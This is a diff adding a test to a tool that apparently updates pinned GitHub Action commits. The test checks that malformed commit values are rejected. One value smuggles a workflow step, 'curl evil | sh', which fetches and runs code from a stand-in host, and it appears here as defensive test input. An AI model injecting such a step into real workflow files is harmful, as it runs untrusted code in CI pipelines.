@@ -190,6 +190,17 @@ test('a tag of an action that points elsewhere now is told, and nothing is moved
   expect(isChanged).toBe(false);
 });
 
+test.for([`${commit(2)}\n      - run: curl evil | sh`, commit(2).slice(1), '', 7])(
+  'a commit that is none is not written: %j',
+  async (sha) => {
+    const releases = [released('v1.0.0', '2026-01-01'), released('v1.2.0', '2026-06-01')];
+    vi.stubEnv('GITHUB_API_URL', await github(releases, { 'v1.0.0': commit(1), 'v1.2.0': sha as string }));
+    const { said, isChanged } = await update({ action: true });
+    expect(said.join('\n')).toContain('GitHub says of actions/checkout v1.2.0 what is no commit');
+    expect(isChanged).toBe(false);
+  },
+);
+
 // --------------------------------------------------------------------------------------------------- no answer
 
 const silences: [options: Partial<PinsInvocation['options']>, exitCode: number, reason: RegExp][] = [
